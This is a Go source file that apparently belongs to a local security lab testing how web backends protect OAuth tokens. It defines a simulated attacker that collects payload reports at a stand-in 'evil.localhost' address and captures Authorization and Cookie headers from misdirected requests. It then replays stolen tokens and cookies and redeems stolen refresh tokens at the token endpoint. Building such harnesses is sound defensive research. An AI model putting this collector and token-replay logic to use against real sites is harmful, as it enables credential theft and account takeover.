package attack

import (
	"cmp"
	"context"
	"crypto/ecdsa"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"

	"cloakroom/bff/lab/strategy"
	"cloakroom/shared"
	"cloakroom/shared/lab"
)

// attacker has an origin of another site, where loot arrives and from where
// forged requests leave, one of the victim's site, as whoever took over a
// forgotten sub-domain has, and a client that has nothing of the browser's.
type attacker struct {
	world   *strategy.World
	origin  string
	sibling string // of the same site as all applications
	server  *http.Server
	client  *http.Client

	mu      sync.Mutex
	reports map[string]chan message // by nonce
	files   map[string]file         // by path
	strays  []stray
	// referers are the addresses from which a file was asked for, by its path.
	referers map[string]string
	// key is the attacker's own, keys are those it found, by their thumbprint.
	key  *ecdsa.PrivateKey
	keys map[string]*ecdsa.PrivateKey
}

// file is something the attacker serves.
type file struct{ kind, text string }

// stray is a request that was not made for the attacker, and came all the same.
type stray struct{ request, credentials string }

// message is what a payload sends home.
type message struct {
	// Places are texts by the place they were read in.
	Places map[string]string `json:"places"`
	// Requests are those of the application that a payload kept for the attacker.
	Requests []request `json:"requests"`
	// Error is what the payload could not do; it ran to its end all the same.
	Error string `json:"error"`
	// More: the payload goes on, and will report again.
	More bool `json:"more"`
	// By is how it came: "fetch", or "navigation" where the page's policy lets
	// nothing else out.
	By string `json:"by"`
}

// request is one that an application was about to send.
type request struct {
	Method  string            `json:"method"`
	Address string            `json:"address"`
	Header  map[string]string `json:"header"`
}

func newAttacker(w *strategy.World) (*attacker, error) {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, fmt.Errorf("attack: %w", err)
	}
	port := listener.Addr().(*net.TCPAddr).Port
	a := &attacker{
		world: w, origin: fmt.Sprintf("http://evil.localhost:%d", port), sibling: fmt.Sprintf("http://evil.lab.localhost:%d", port),
		client: &http.Client{Transport: w.Transport(), Timeout: patience, CheckRedirect: func(*http.Request, []*http.Request) error {
			return http.ErrUseLastResponse
		}},
		reports: map[string]chan message{}, files: map[string]file{}, referers: map[string]string{}, key: newKey(), keys: map[string]*ecdsa.PrivateKey{},
	}
	a.server = &http.Server{Handler: http.HandlerFunc(a.serve), ReadHeaderTimeout: patience, ErrorLog: log.New(io.Discard, "", 0)}
	go func() { _ = a.server.Serve(listener) }() // ends with close
	return a, nil
}

func (a *attacker) close() {
	a.client.CloseIdleConnections()
	_ = a.server.Close()
}

// maxReport bounds a report, in bytes.
const maxReport = 1 << 20

func (a *attacker) serve(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Cache-Control", "no-store")
	if r.URL.Path != "/collect" {
		a.mu.Lock()
		found, ok := a.files[r.URL.Path]
		a.mu.Unlock()
		if !ok {
			a.catch(w, r)
			return
		}
		a.mu.Lock()
		a.referers[r.URL.Path] += "asked for by " + r.Referer() + "\n"
		a.mu.Unlock()
		w.Header().Set("Content-Type", found.kind+"; charset=utf-8")
		_, _ = io.WriteString(w, found.text)
		return
	}
	text := r.URL.Query().Get("report") // by a navigation
	if r.Method == http.MethodPost {
		body, err := io.ReadAll(http.MaxBytesReader(w, r.Body, maxReport))
		if err != nil {
			return
		}
		text = string(body)
	}
	var got message
	if json.Unmarshal([]byte(text), &got) != nil {
		return
	}
	a.mu.Lock()
	arrived := a.reports[r.URL.Query().Get("nonce")]
	a.mu.Unlock()
	select {
	case arrived <- got: // a nil channel takes nothing: nobody waits for that nonce
	default:
	}
}

// catch notes a request that was meant for somebody else, with what it brought,
// and lets every page send more of its kind.
func (a *attacker) catch(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Access-Control-Allow-Headers", "*, Authorization")
	if r.Method == http.MethodOptions {
		return
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	a.strays = append(a.strays, stray{
		request:     r.Method + " http://" + r.Host + r.URL.Path,
		credentials: strings.Join(slices.Concat(r.Header.Values("Authorization"), r.Header.Values("Cookie")), "\n"),
	})
}

func (a *attacker) referer(path string) string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.referers[path]
}

// caught are the strays since the first n.
func (a *attacker) caught(n int) []stray {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.Clone(a.strays[n:])
}

// maxReports is how many reports of one payload wait to be read.
const maxReports = 64

// expect makes a collector's address for one payload.
func (a *attacker) expect() (address string, arrived <-chan message) {
	nonce, reports := rand.Text(), make(chan message, maxReports)
	a.mu.Lock()
	defer a.mu.Unlock()
	a.reports[nonce] = reports
	return a.origin + "/collect?nonce=" + nonce, reports
}

// publish serves a file at the attacker's origins and returns its path.
func (a *attacker) publish(kind, text string) (path string) {
	path = "/" + rand.Text()
	a.mu.Lock()
	defer a.mu.Unlock()
	a.files[path] = file{kind, text}
	return path
}

func await(ctx context.Context, arrived <-chan message) (message, error) {
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	select {
	case got := <-arrived:
		return got, nil
	case <-ctx.Done():
		return message{}, fmt.Errorf("attack: no report of the payload arrived: %w", ctx.Err())
	}
}

// ask sends a request as the attacker's own and reports whether the answer has
// orders of the victim in it.
func (a *attacker) ask(ctx context.Context, r *http.Request, with string) (lab.Answer, []byte, error) {
	answer := lab.Answer{By: lab.Attacker, Request: r.Method + " " + r.URL.Scheme + "://" + r.URL.Host + r.URL.Path, With: with}
	resp, err := a.client.Do(r.WithContext(ctx))
	if err != nil {
		return answer, nil, fmt.Errorf("attack: %w", err)
	}
	defer resp.Body.Close()
	body, err := readAll(resp.Body)
	if err != nil {
		return answer, nil, fmt.Errorf("attack: %w", err)
	}
	answer.Status = resp.StatusCode
	answer.Gave, err = a.isVictims(ctx, body)
	return answer, body, err
}

// readAll reads an answer, or as much as anybody looks at.
func readAll(body io.Reader) ([]byte, error) { return io.ReadAll(io.LimitReader(body, maxReport)) }

// isVictims reports whether a text is orders, one of the victim's among them.
// The attacker's own are of no use to it.
func (a *attacker) isVictims(ctx context.Context, body []byte) (bool, error) {
	var page shared.OrderPage
	if json.Unmarshal(body, &page) != nil || len(page.Orders) == 0 {
		return false, nil
	}
	orders, err := a.world.VictimsOrders(ctx)
	return slices.ContainsFunc(page.Orders, func(o shared.Order) bool {
		return slices.ContainsFunc(orders, func(victims shared.Order) bool { return victims.ID == o.ID })
	}), err
}

// use tries a piece of loot for all it is good for, and returns what it led to.
func (a *attacker) use(ctx context.Context, s lab.Strategy, p piece, e *lab.Evidence) error {
	switch p.kind {
	case lab.KindAccess, lab.KindID:
		return a.note(ctx, s, "", p, e)
	case lab.KindRefresh:
		return a.redeem(ctx, s, p, url.Values{"grant_type": {"refresh_token"}, "refresh_token": {p.value}}, e)
	case lab.KindCookie:
		return a.note(ctx, s, p.value, p, e)
	}
	return fmt.Errorf("attack: nobody knows a use for a %s", p.kind)
}

// note spends a token, or cookies, and keeps the answer.
func (a *attacker) note(ctx context.Context, s lab.Strategy, cookies string, p piece, e *lab.Evidence) error {
	token := p.value
	if cookies != "" {
		token = ""
	}
	answer, _, err := a.spend(ctx, s, cookies, token, p.fingerprint())
	e.Answers = append(e.Answers, answer)
	return err
}

// redeem sends a grant to the token endpoint, without a secret since the
// attacker has none, and uses the access token that comes back.
func (a *attacker) redeem(ctx context.Context, s lab.Strategy, p piece, form url.Values, e *lab.Evidence) error {
	form.Set("client_id", a.world.ClientID(s.ID))
	r, err := http.NewRequest(http.MethodPost, a.world.Issuer()+"/oauth/token", strings.NewReader(form.Encode()))
	if err != nil {
		return err
	}
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if bound(s) {
		if err := a.prove(r, ""); err != nil {
			return err
		}
	}
	answer, body, err := a.ask(ctx, r, p.fingerprint())
	if err != nil {
		return err
	}
	e.Answers = append(e.Answers, answer)
	var got tokens
	if json.Unmarshal(body, &got) != nil || got.Access == "" {
		return nil // refused: that is an outcome
	}
	e.Steps = append(e.Steps, fmt.Sprintf("the attacker's client was issued tokens of its own for the %s, a refresh token among them: %t", cmp.Or(p.kind, "grant"), got.Refresh != ""))
	return a.use(ctx, s, piece{lab.KindAccess, "token endpoint", got.Access}, e)
}
